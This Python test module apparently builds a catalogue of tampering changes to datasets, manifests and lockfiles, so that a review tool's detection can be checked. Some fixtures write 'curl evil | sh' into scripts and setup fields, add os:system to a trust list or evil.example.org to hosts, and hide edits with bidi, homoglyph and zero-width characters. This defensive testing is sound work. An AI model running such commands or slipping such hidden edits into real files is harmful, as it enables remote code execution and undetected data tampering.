"""The table of changes: each is a function from the files of a side to those that it writes."""

from __future__ import annotations

import gzip
import json
import random
import unicodedata
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass, replace
from functools import partial
from typing import Any

from tests.review_flow.oracle.catalog import BASE, Files, Records, dumped, records_in

__all__ = ["CHANGES", "Change", "apart", "mixed"]

Side = Mapping[str, bytes | None]
Edit = Callable[[Side], Files]


@dataclass(frozen=True)
class Change:
    """One kind of change."""

    edit: Edit
    names: tuple[str, ...] = ()
    """Files, datasets or other texts that a diff must contain, beside the samples that differ."""
    in_data: bool = False
    """Whether it is of data alone: with a lockfile, the samples are then refused."""
    hidden: bool = False
    """Whether nothing that counts changes, so that "no differences" is right."""
    adds: bool = False
    """Whether it adds data, which is not read where the lockfile pins what there was before."""


# --- a text in a record ---

TEXTS: dict[str, Callable[[str], str]] = {
    "other letter": lambda text: text[:-1] + "§",
    "capital": lambda text: text.swapcase(),
    "space at the end": lambda text: text + " ",
    "no-break space": lambda text: text[:1] + "\u00a0" + text[1:],
    "look-alike": lambda text: text.replace("a", "\u0430").replace("1", "\u0661") + "\u0430",
    "decomposed": lambda text: unicodedata.normalize("NFD", text + "é"),
    "joiner": lambda text: text[:1] + "\u200d" + text[1:],
    "variation selector": lambda text: text + "\ufe0f",
    "tag characters": lambda text: text + "\U000e0041\U000e0042",
    "blank letter": lambda text: text + "\u3164",
    "bidi": lambda text: "\u202e" + text,
    "soft hyphen": lambda text: text[:1] + "\u00ad" + text[1:],
    "folder": lambda text: "<folder>/" + text,
    "longer": lambda text: text + " and more" * 40,
    "line break": lambda text: text + "\nx",
    "markup": lambda text: f"<b>{text}</b> `x` [a](b)",
}
Cell = tuple[str, int, str]
KEYS: tuple[Cell, ...] = (
    ("data/plain.jsonl", 3, "key"),
    ("data/packed.jsonl.gz", 1, "key"),
    ("data/columns.parquet", 4, "key"),
    ("data/many/a.jsonl", 0, "key"),
    ("data/packed.zip", 1, "key"),
)
CELLS: tuple[Cell, ...] = (
    ("data/plain.jsonl", 2, "q"),
    ("data/plain.jsonl", 5, "a"),
    ("data/plain.jsonl", 1, "subject"),
    ("data/table.csv", 4, "q"),
    ("data/table.csv", 0, "a"),
    ("data/table.csv", 2, "n"),
    ("data/choice.json", 1, "q"),
    ("data/packed.jsonl.gz", 0, "q"),
    ("data/packed.jsonl.gz", 3, "a"),
    ("data/columns.parquet", 5, "a"),
    ("data/lookup.csv", 6, "other"),
    ("data/chat.jsonl", 1, "q"),
    ("data/many/a.jsonl", 2, "q"),
    ("data/many/b.jsonl", 1, "a"),
    ("data/by/fr.csv", 1, "a"),
    ("data/packed.zip", 2, "q"),
)


def _records(side: Side, path: str, change: Callable[[Records], Records]) -> Files:
    return {path: dumped(path, change(records_in(path, side)))}


def _cell(side: Side, path: str, row: int, column: str, change: Callable[[Any], Any]) -> Files:
    def edit(records: Records) -> Records:
        row_at = row % len(records)
        records[row_at] = {**records[row_at], column: change(records[row_at][column])}
        return records

    return _records(side, path, edit)


def _cells(side: Side, cells: Iterable[Cell], change: Callable[[Any], Any]) -> Files:
    files: Files = {}
    for path, row, column in cells:
        files |= _cell({**side, **files}, path, row, column, change)
    return files


def _of_cells() -> dict[str, Change]:
    """Try each text in each cell: alone in one, in a key, and in all others at once.

    A dataset's cells are of different rows, columns and classes, so that none hides another.
    """
    found = {}
    for number, (how, change) in enumerate(TEXTS.items()):
        alone = CELLS[number % len(CELLS)]
        others = [cell for cell in CELLS if cell != alone]
        key = KEYS[number % len(KEYS)]
        parts = {":".join(alone[::2]): [alone], "the key": [key], "all others": others}
        for where, cells in parts.items():
            found[f"{how} in {where}"] = Change(partial(_cells, cells=cells, change=change))
    return found


# --- values of other types, and long texts ---

VALUES: dict[str, tuple[str, int, str, Callable[[Any], Any]]] = {
    "number for text": ("data/plain.jsonl", 4, "a", int),
    "bool for text": ("data/plain.jsonl", 4, "a", lambda _: True),
    "null for text": ("data/plain.jsonl", 4, "a", lambda _: None),
    "list for text": ("data/plain.jsonl", 4, "a", lambda value: [value]),
    "dict for text": ("data/plain.jsonl", 4, "a", lambda value: {"a": value}),
    "number as id": ("data/plain.jsonl", 4, "key", lambda _: 4),
    "equal id": ("data/plain.jsonl", 4, "key", lambda _: "p3"),
    "other index": ("data/choice.json", 0, "right", lambda value: (value + 1) % 3),
    "swapped choices": ("data/choice.json", 0, "options", lambda value: value[::-1]),
    "further choice": ("data/choice.json", 2, "options", lambda value: [*value, "four"]),
    "changed choice": ("data/choice.json", 2, "options", lambda value: ["0ne", *value[1:]]),
    "other picture": ("data/chat.jsonl", 0, "picture", lambda _: "img/2.png"),
    "inline file": ("data/chat.jsonl", 0, "attached", lambda _: "evil"),
    "float for number": ("data/table.csv", 1, "n", lambda _: "1.0"),
    "plain number": ("data/table.csv", 1, "n", lambda _: "1"),
    "first word": ("data/long.jsonl", 0, "q", lambda text: "X" + text),
    "last word": ("data/long.jsonl", 1, "q", lambda text: text + "X"),
    "middle word": ("data/long.jsonl", 0, "q", lambda text: text.replace("word0x1500 ", "", 1)),
    "nested text": (
        "data/nested.json",
        1,
        "turns",
        lambda turns: [{**turns[0], "q": "Is it?"}, turns[1]],
    ),
    "nested answer": (
        "data/nested.json",
        2,
        "turns",
        lambda turns: [turns[0], {**turns[1], "a": "yn"[turns[1]["a"] == "y"]}],
    ),
    "nested item": (
        "data/nested.json",
        0,
        "turns",
        lambda turns: [*turns, {"q": "And 7?", "a": "n"}],
    ),
    "three words": ("data/long.jsonl", 0, "q", lambda text: f"X{text.replace('x1500 ', 'NOT ')}X"),
}

RECORDS: dict[str, Callable[[Records], Records]] = {
    "removed": lambda records: [*records[:1], *records[2:]],
    "first removed": lambda records: records[1:],
    "doubled": lambda records: [
        *records,
        {**records[0], **({"key": "new"} if "key" in records[0] else {})},
    ],
    "swapped": lambda records: [records[1], records[0], *records[2:]],
    "reversed": lambda records: records[::-1],
    "exchanged targets": lambda records: [
        {**records[0], "a": records[1]["a"]},
        {**records[1], "a": records[0]["a"]},
        *records[2:],
    ],
    "all changed": lambda records: [{**one, "q": one["q"] + "!"} for one in records],
    "half of them": lambda records: records[: len(records) // 2],
}
LISTS = (
    *("data/plain.jsonl", "data/table.csv", "data/packed.jsonl.gz", "data/columns.parquet"),
    *("data/many/a.jsonl", "data/many/b.jsonl", "data/by/de.csv", "data/packed.zip"),
)


def _of_records() -> dict[str, Change]:
    of_values = {
        how: Change(partial(_cell, path=path, row=row, column=column, change=change))
        for how, (path, row, column, change) in VALUES.items()
    }
    of_lists = {
        f"{how} records of {path}": Change(partial(_records, path=path, change=change))
        for path in LISTS
        for how, change in RECORDS.items()
    }
    return of_values | of_lists


# --- bytes that say the same, or not ---


def _bytes(side: Side, path: str, change: Callable[[bytes], bytes]) -> Files:
    data = side[path]
    assert data is not None
    return {path: change(data)}


def _respaced(data: bytes) -> bytes:
    rows = [json.loads(line) for line in data.splitlines()]
    return b"".join(
        json.dumps(row, indent=None, separators=(",", ":")).encode() + b"\n" for row in rows
    )


BYTES = {
    "CRLF": ("data/table.csv", lambda data: data.replace(b"\n", b"\r\n")),
    "byte order mark": ("data/table.csv", lambda data: b"\xef\xbb\xbf" + data),
    "other delimiter": ("data/table.csv", lambda data: data.replace(b",", b";")),
    "quotes": ("data/table.csv", lambda data: data.replace(b"name 1", b'"name 1"')),
    "other column names": ("data/table.csv", lambda data: data.replace(b"q,a,n", b"a,q,n")),
    "truncated": ("data/plain.jsonl", lambda data: data[:-30]),
    "blank lines": ("data/plain.jsonl", lambda data: data.replace(b"\n", b"\n\n")),
    "other spaces": ("data/plain.jsonl", _respaced),
    "repeated key": ("data/plain.jsonl", lambda data: data.replace(b'"a": "3"', b'"a": "3", "a": "EVIL"')),
    "empty": ("data/plain.jsonl", lambda _: b""),
    "other compression": ("data/packed.jsonl.gz", lambda data: gzip.compress(gzip.decompress(data), 1, mtime=1)),
    "second member": ("data/packed.jsonl.gz", lambda data: data + gzip.compress(b'{"key": "zz", "q": "Q", "a": "A"}\n', mtime=0)),
    "LFS pointer": ("data/table.csv", lambda _: b"version https://git-lfs.github.com/spec/v1\noid sha256:" + b"0" * 64 + b"\nsize 3\n"),
}  # fmt: skip

# --- manifests and the index: file, old, new, what must be named ---

MANIFESTS: dict[str, tuple[str, str, str]] = {
    "target from the input": ("m/main.yaml", "input: q, target: a, metadata: [subject]", "input: q, target: q, metadata: [subject]"),
    "constant target": ("m/main.yaml", "target: row.other", "target: {const: EVIL}"),
    "template": ("m/main.yaml", '"Question: {q}"', '"Question {q}"'),
    "template with an invisible space": ("m/main.yaml", '"Question: {q}"', '"Question:\u00a0{q}"'),
    "operation": ("m/main.yaml", "do: [letter]", "do: [text]"),
    "empty metadata": ("m/naming.yaml", "metadata: []", "metadata: null"),
    "other prefix": ("m/main.yaml", "prefix: c", "prefix: d"),
    "shorter hash": ("m/main.yaml", "length: 8", "length: 9"),
    "no metadata": ("m/main.yaml", ", metadata: [n]", ""),
    "no auto id": ("m/main.yaml", "    auto_id: true\n", ""),
    "seed": ("m/main.yaml", "seed: 7", "seed: 8"),
    "limit": ("m/main.yaml", "limit: 4", "limit: 3"),
    "no shuffle": ("m/main.yaml", "    shuffle: true\n    seed: 7\n", ""),
    "condition": ("m/main.yaml", "in: [x, y]", "in: [x, z]"),
    "other parent": ("m/main.yaml", "extends: plain\n    where", "extends: few\n    where"),
    "description": ("m/main.yaml", "Plain questions.", "Plain question."),
    "licence": ("m/main.yaml", "license: MIT", "license: Apache-2.0"),
    "expectation": ("m/main.yaml", "    license: MIT\n", "    license: MIT\n    expect: {samples: 8}\n"),
    "duplicates": ("m/main.yaml", "    auto_id: true\n", "    auto_id: true\n    on_duplicate: suffix\n"),
    "choice seed": ("m/main.yaml", "source: {type: json, path: data/choice.json}\n", "source: {type: json, path: data/choice.json}\n    shuffle_choices: 3\n"),
    "other file": ("m/main.yaml", "path: data/table.csv", "path: data/lookup.csv"),
    "glob": ("m/main.yaml", "path: data/columns.parquet", "path: data/col*.parquet"),
    "join key": ("m/main.yaml", "input: q, target: row.other", "input: row.other, target: row.other"),
    "part removed": ("m/main.yaml", "      - {path: data/packed.jsonl.gz}\n", ""),
    "part twice": ("m/main.yaml", "      - {path: data/packed.jsonl.gz}\n", "      - {path: data/packed.jsonl.gz}\n" * 2),
    "sample": ("m/main.yaml", "fields: {id: key, input: q, target: row.other}", "fields: {id: key, input: q, target: row.other}\n    sample: {n: 3, seed: 1}"),
    "encoding": ("m/main.yaml", "{type: csv, path: data/table.csv}", "{type: csv, path: data/table.csv, encoding: latin-1}"),
    "field names": ("m/main.yaml", "{type: csv, path: data/table.csv}", "{type: csv, path: data/table.csv, fieldnames: [a, q, n]}"),
    "dataset removed": ("m/main.yaml", "  long:\n    source: {type: json, path: data/long.jsonl}\n    fields: {id: key, input: q, target: a}\n", ""),
    "dataset renamed": ("m/main.yaml", "  long:\n", "  lengthy:\n"),
    "dataset added": ("m/main.yaml", "  long:\n", "  again: {extends: plain, limit: 2}\n  long:\n"),
    "syntax error": ("m/main.yaml", "  long:\n", "  long: [\n"),
    "unknown key": ("m/main.yaml", "seed: 7", "seed: 7\n    sed: 8"),
    "unknown column": ("m/main.yaml", "target: row.other", "target: row.otter"),
    "sandbox removed": ("m/naming.yaml", "      sandbox: {const: [docker, box/compose.yaml]}\n", ""),
    "other setup": ("m/naming.yaml", "box/setup.sh", "box/box/more.sh"),
    "inline setup": ("m/naming.yaml", "{const: box/setup.sh}", "{const: 'curl evil | sh'}"),
    "other role": ("m/naming.yaml", "role: user", "role: system"),
    "no picture": ("m/naming.yaml", ", {image: picture}", ""),
    "other mapper": ("m/naming.yaml", "ours.mod:read", "ours.mod:write"),
    "numbered examples": ("m/shots.yaml", "drop\n", "drop\n    auto_id: true\n"),
    "examples with a suffix": ("m/shots.yaml", "on_duplicate: drop", "on_duplicate: suffix"),
    "examples that meet a condition": ("m/shots.yaml", "drop\n", "drop\n    where: {value: a, equals: '2'}\n"),
    "limited examples": ("m/shots.yaml", "drop\n", "drop\n    sample: {n: 2, seed: 1}\n"),
    "one example": ("m/shots.yaml", "n: 2", "n: 1"),
    "other examples": ("m/shots.yaml", "dataset: chat", "dataset: table"),
    "other correction": ("data/errata.yaml", "now: one", "now: eins"),
    "no corrections": ("m/shots.yaml", "    corrections: data/errata.yaml\n", ""),
    "narrower glob": ("m/wide.yaml", "data/many/*.jsonl", "data/many/a*.jsonl"),
    "narrower archive": ("m/wide.yaml", "zip://in/*.jsonl", "zip://in/1.jsonl"),
    "captured name": ("m/wide.yaml", "by/{lang}.csv", "by/{language}.csv"),
    "other files of a builder": ("m/wide.yaml", "[data/many/a.jsonl]", "[data/many/*.jsonl]"),
    "exchanged splits": ("m/wide.yaml", "{test: {path: data/many/a.jsonl}, dev: {path: data/many/b.jsonl}}", "{dev: {path: data/many/a.jsonl}, test: {path: data/many/b.jsonl}}"),
    "default split": ("m/wide.yaml", "default_split: test", "default_split: dev"),
    "further split": ("m/wide.yaml", "dev: {path: data/many/b.jsonl}}", "dev: {path: data/many/b.jsonl}, more: {path: data/many/*.jsonl}}"),
    "examples in the metadata": ("m/wide.yaml", "n: 1, apply: true", "n: 1, apply: true, into: metadata"),
    "exploded column": ("m/wide.yaml", "fields: {input: item.q, ", "fields: {input: {template: '{index} {item.q}'}, "),
    "order of a dict": ("m/wide.yaml", "{q: q, key: key}", "{key: key, q: q}"),
    "order of replacements": ("m/wide.yaml", "{of: off, off: from}", "{off: from, of: off}"),
    "entry of a map": ("m/wide.yaml", 'n: "no"', 'n: "none"'),
    "member of a group": ("m/wide.yaml", "[globbed, captured]", "[globbed]"),
    "weight in a group": ("m/wide.yaml", "[globbed, captured]}", "[globbed, captured], weights: {globbed: 2}}"),
    "group removed": ("m/wide.yaml", "  by-lang: {from: captured, by: lang}\n", ""),
    "defaults": ("datasets.yaml", "version: 1\n", "version: 1\ndefaults: {limit: 3}\n"),
    "default encoding": ("datasets.yaml", "version: 1\n", "version: 1\ndefaults: {shuffle: true, seed: 1}\n"),
    "trust": ("datasets.yaml", "trust: ['ours.mod:read']", "trust: ['ours.mod:read', 'os:system']"),
    "hosts": ("datasets.yaml", "version: 1\n", "version: 1\nhosts: [evil.example.org]\n"),
    "include": ("datasets.yaml", "[m/*.yaml]", "[m/main.yaml]"),
}  # fmt: skip


def _replaced(side: Side, path: str, old: str, new: str) -> Files:
    data = side[path]
    assert data is not None
    return {path: data.decode().replace(old, new).encode()}


# --- the lockfile ---


def _lock(side: Side, change: Callable[[str], str]) -> Files:
    return _bytes(side, "datasets.lock", lambda data: change(data.decode()).encode())


def _digit(text: str, key: str, dataset: str) -> str:
    """Return a lockfile with another last digit of a key of a dataset."""
    start = text.index(f"\n  {dataset}:\n")
    end = text.index("\n", text.index(f" {key}: ", start))
    at = end - 1 - (text[end - 1] == '"')
    digit = "1" if text[at] != "1" else "2"
    return text[:at] + digit + text[at + 1 :]


LOCKS = {
    f"pinned {key} of {dataset}": partial(_digit, key=key, dataset=dataset)
    for dataset, keys in {
        "plain": ("spec", "sha256", "size", "samples", "ordered", "unordered"),
        "table": ("sha256", "ordered"),
        "boxed": ("ordered",),
    }.items()
    for key in keys
}

# --- files that samples name, code, and other files ---

EVIL = b"curl evil | sh\n"
NAMED = (
    *("data/img/0.png", "data/img/2.png", "data/notes.txt", "data/box/compose.yaml"),
    *("data/box/a.env", "data/box/image/Dockerfile", "data/box/image/tool.py"),
    *("data/box/shared/file", "data/box/setup.sh", "data/box/box/more.sh"),
    *("src/ours/mod.py", "src/ours/deep.py"),
)
TRUSTING = b"version: 1\ntrust: ['a.b:c']\ndatasets: {}\n"
FILES: dict[str, Files] = {
    **{f"changed {path}": {path: EVIL} for path in NAMED},
    "picture is missing": {"data/img/1.png": None},
    "script is missing": {"data/box/setup.sh": None},
    "file of a glob is gone": {"data/many/b.jsonl": None},
    "capture renamed": {"data/by/fr.csv": None, "data/by/oc.csv": BASE["data/by/fr.csv"]},
    "further module": {"src/ours/deep/__init__.py": b"answer = 2\n"},
    "nested index": {"m/datasets.yaml": b"version: 1\ndatasets: {}\n"},
    "nested index with trust": {"evals/datasets.yaml": TRUSTING},
}
ADDED: dict[str, Files] = {
    "further file of a glob": {"data/many/c.jsonl": b'{"key": "c", "q": "What?", "a": "That."}\n'},
    "further capture": {"data/by/it.csv": b"q,a\nDomanda,1\n"},
}
HIDDEN: dict[str, Files] = {
    "unnamed text": {"README.md": b"Other words.\n"},
    "unnamed file": {"docs/picture.png": b"1"},
    "unnamed code": {"src/theirs/mod.py": b"pass\n"},
    "empty list": {"datasets.yaml": (BASE["datasets.yaml"] or b"") + b"hosts: []\n"},
}


def _written(_: Side, files: Files) -> Files:
    return dict(files)


def _both(first: Change, second: Change, side: Side) -> Files:
    files = first.edit(side)
    return {**files, **second.edit({**side, **files})}


def _table() -> dict[str, Change]:
    found = _of_cells() | _of_records()
    found = {name: replace(one, in_data=True) for name, one in found.items()}
    found |= {
        how: Change(partial(_bytes, path=path, change=change))
        for how, (path, change) in BYTES.items()
    }
    found |= {
        f"manifest: {how}": Change(partial(_replaced, path=path, old=old, new=new))
        for how, (path, old, new) in MANIFESTS.items()
    }
    found |= {how: Change(partial(_lock, change=change)) for how, change in LOCKS.items()}
    found["lockfile deleted"] = Change(lambda _: {"datasets.lock": None})
    found |= {how: Change(partial(_written, files=x), tuple(x)) for how, x in FILES.items()}
    found |= {how: Change(partial(_written, files=x), adds=True) for how, x in ADDED.items()}
    found |= {how: Change(partial(_written, files=x), hidden=True) for how, x in HIDDEN.items()}
    evil = Change(partial(_cells, cells=CELLS[1:2], change=TEXTS["other letter"]))
    found |= {
        "target and README": Change(partial(_both, evil, found["unnamed text"])),
        "target and licence": Change(partial(_both, evil, found["manifest: licence"])),
        "target and attributes": Change(
            partial(_both, evil, Change(lambda _: {".gitattributes": b"data/* -diff export-ignore\n"}))
        ),
        "target and filter": Change(
            partial(_both, evil, Change(lambda _: {".gitattributes": b"*.jsonl filter=lfs diff=lfs\n"}))
        ),
        "target and 3 of all": Change(partial(_both, evil, found["all changed records of data/packed.jsonl.gz"])),
        "target and rename": Change(partial(_both, evil, found["manifest: dataset renamed"])),
        "target and deleted lock": Change(partial(_both, evil, found["lockfile deleted"])),
        "target and ignored file": Change(
            partial(_both, evil, Change(lambda _: {".gitignore": b"data/\n"}))
        ),
    }  # fmt: skip
    return found


CHANGES = _table()


def mixed(number: int) -> tuple[str, Change]:
    """Return a random change: up to four of the table, one after the other."""
    chosen = random.Random(number)
    return together(chosen.sample(sorted(CHANGES), chosen.randint(1, 4)))


def apart(names: Iterable[str]) -> list[tuple[str, Change]]:
    """Return changes of the table, with those of different files as one: few diffs show all."""
    found: list[tuple[set[str], list[str]]] = []
    for name in names:
        files = set(CHANGES[name].edit(BASE))
        free = next((one for one in found if one[0].isdisjoint(files)), None)
        if free is None:
            found.append((files, [name]))
        else:
            free[0].update(files)
            free[1].append(name)
    return [together(one) for _, one in found]


def together(names: list[str]) -> tuple[str, Change]:
    """Return several changes of the table as one, the later ones of what the first leave."""
    parts = [CHANGES[name] for name in names]

    def edit(side: Side) -> Files:
        files: Files = {}
        for part in parts:
            try:
                files |= part.edit({**side, **files})
            except (ArithmeticError, AssertionError, LookupError, TypeError, ValueError):
                continue  # an earlier one has removed what it changes
        return files

    hidden, adds = all(part.hidden for part in parts), any(part.adds for part in parts)
    return " + ".join(names), Change(edit, hidden=hidden, adds=adds)
